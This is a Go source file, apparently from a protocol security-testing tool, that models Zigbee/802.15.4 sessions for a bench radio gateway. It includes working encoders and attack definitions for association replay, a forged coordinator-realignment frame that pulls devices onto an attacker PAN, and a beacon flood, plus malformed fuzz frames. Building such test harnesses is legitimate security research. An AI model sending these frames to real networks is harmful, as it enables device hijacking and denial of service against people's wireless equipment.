package protocol

import (
	"bytes"
	"encoding/binary"
	"strconv"
	"time"

	"bytemomo/charybdis/internal/domain"
)

// Zigbee session states. Frames address the 802.15.4 MAC layer as seen
// through a bench radio gateway.
const (
	zbIdle     State = "idle"
	zbScanning State = "scanning"
	zbJoined   State = "joined"
)

// 802.15.4 MAC command identifiers.
const (
	zbCmdAssociationRequest = 0x01
	zbCmdDisassociation     = 0x03
	zbCmdBeaconRequest      = 0x07
	zbCmdCoordRealignment   = 0x08
)

// ZigbeeMachine returns the state machine for 802.15.4 mesh targets.
func ZigbeeMachine() *Definition {
	return &Definition{
		Protocol: domain.ProtocolZigbee,
		Initial:  zbIdle,
		States:   []State{zbIdle, zbScanning, zbJoined},
		Legal: []Transition{
			{From: zbIdle, Event: "beacon-request", To: zbScanning},
			{From: zbScanning, Event: "associate", To: zbJoined},
			{From: zbJoined, Event: "leave", To: zbIdle},
		},
		Events: map[string]EventSpec{
			"beacon-request": {
				Name:   "beacon-request",
				Encode: encodeZigbeeBeaconRequest,
				Expect: domain.RespAny,
			},
			"associate": {
				Name:   "associate",
				Encode: encodeZigbeeAssociate,
				Expect: domain.RespAck,
				Fields: []FieldSpec{
					{Name: "dest-pan", Offset: 3, Size: 2},
					{Name: "capability", Offset: 18, Size: 1},
				},
			},
			"leave": {
				Name:   "leave",
				Encode: encodeZigbeeDisassociation,
				Expect: domain.RespSilence,
			},
			"realign": {
				Name:   "realign",
				Encode: encodeZigbeeRealignment,
				Expect: domain.RespSilence,
			},
		},
		Abuses: []AbuseSpec{
			{
				Name:     "association-replay",
				Category: domain.AttackReplay,
				From:     zbScanning,
				Events:   []string{"associate"},
				// stale sequence number: a captured join replayed verbatim
				Params: map[string]string{"seq": "1"},
			},
			{
				Name:     "rogue-coordinator",
				Category: domain.AttackSpoof,
				From:     zbJoined,
				Events:   []string{"realign"},
				Params:   map[string]string{"pan": "0xBEEF", "coordinator": "0x0000"},
			},
			{
				Name:     "beacon-flood",
				Category: domain.AttackFlood,
				From:     zbIdle,
				Events:   []string{"beacon-request"},
				Rate:     &domain.RateSpec{Count: 256, Interval: 4 * time.Millisecond},
			},
		},
		// broadcast beacon request, bare FCF, truncated association
		// header, zero-length frame
		Dictionary: [][]byte{
			{0x03, 0x08, 0x00, 0xFF, 0xFF, 0xFF, 0xFF, 0x07},
			{0xFF, 0xFF},
			{0x23, 0xC8, 0x00},
			{0x00},
		},
	}
}

func zbSeq(params map[string]string) byte {
	n, err := strconv.Atoi(param(params, "seq", "42"))
	if err != nil {
		return 42
	}
	return byte(n)
}

func zbUint16(params map[string]string, key, fallback string) uint16 {
	v, err := strconv.ParseUint(param(params, key, fallback), 0, 16)
	if err != nil {
		return 0xFFFF
	}
	return uint16(v)
}

// encodeZigbeeBeaconRequest emits the canonical broadcast beacon request:
// command frame, broadcast PAN and address, command id 0x07.
func encodeZigbeeBeaconRequest(params map[string]string) ([]byte, error) {
	buf := bytes.NewBuffer(nil)
	buf.Write([]byte{0x03, 0x08}) // FCF: command frame, no security
	buf.WriteByte(zbSeq(params))
	binary.Write(buf, binary.LittleEndian, uint16(0xFFFF)) // dest PAN broadcast
	binary.Write(buf, binary.LittleEndian, uint16(0xFFFF)) // dest addr broadcast
	buf.WriteByte(zbCmdBeaconRequest)
	return buf.Bytes(), nil
}

// encodeZigbeeAssociate emits an association request to the coordinator.
func encodeZigbeeAssociate(params map[string]string) ([]byte, error) {
	buf := bytes.NewBuffer(nil)
	buf.Write([]byte{0x23, 0xC8}) // FCF: command, ack requested, extended source
	buf.WriteByte(zbSeq(params))
	binary.Write(buf, binary.LittleEndian, zbUint16(params, "pan", "0x1A62"))
	binary.Write(buf, binary.LittleEndian, zbUint16(params, "coordinator", "0x0000"))
	binary.Write(buf, binary.LittleEndian, uint16(0xFFFF)) // source PAN: broadcast until joined
	buf.Write([]byte{0xDE, 0xC0, 0xAD, 0x0B, 0x00, 0x4B, 0x12, 0x00}) // extended source address
	buf.WriteByte(zbCmdAssociationRequest)
	buf.WriteByte(0x8E) // capability: FFD, mains powered, rx on idle, allocate address
	return buf.Bytes(), nil
}

func encodeZigbeeDisassociation(params map[string]string) ([]byte, error) {
	buf := bytes.NewBuffer(nil)
	buf.Write([]byte{0x63, 0x88}) // FCF: command, ack requested, short addressing
	buf.WriteByte(zbSeq(params))
	binary.Write(buf, binary.LittleEndian, zbUint16(params, "pan", "0x1A62"))
	binary.Write(buf, binary.LittleEndian, zbUint16(params, "coordinator", "0x0000"))
	binary.Write(buf, binary.LittleEndian, zbUint16(params, "short", "0x1234"))
	buf.WriteByte(zbCmdDisassociation)
	buf.WriteByte(0x02) // reason: device wishes to leave
	return buf.Bytes(), nil
}

// encodeZigbeeRealignment forges a coordinator realignment that drags
// devices onto an attacker PAN.
func encodeZigbeeRealignment(params map[string]string) ([]byte, error) {
	buf := bytes.NewBuffer(nil)
	buf.Write([]byte{0x23, 0xC8})
	buf.WriteByte(zbSeq(params))
	binary.Write(buf, binary.LittleEndian, uint16(0xFFFF)) // dest PAN broadcast
	binary.Write(buf, binary.LittleEndian, uint16(0xFFFF)) // dest addr broadcast
	binary.Write(buf, binary.LittleEndian, zbUint16(params, "pan", "0xBEEF"))
	buf.Write([]byte{0xDE, 0xC0, 0xAD, 0x0B, 0x00, 0x4B, 0x12, 0x00})
	buf.WriteByte(zbCmdCoordRealignment)
	binary.Write(buf, binary.LittleEndian, zbUint16(params, "pan", "0xBEEF"))
	binary.Write(buf, binary.LittleEndian, zbUint16(params, "coordinator", "0x0000"))
	buf.WriteByte(0x0B) // logical channel
	binary.Write(buf, binary.LittleEndian, zbUint16(params, "short", "0xFFFF"))
	return buf.Bytes(), nil
}
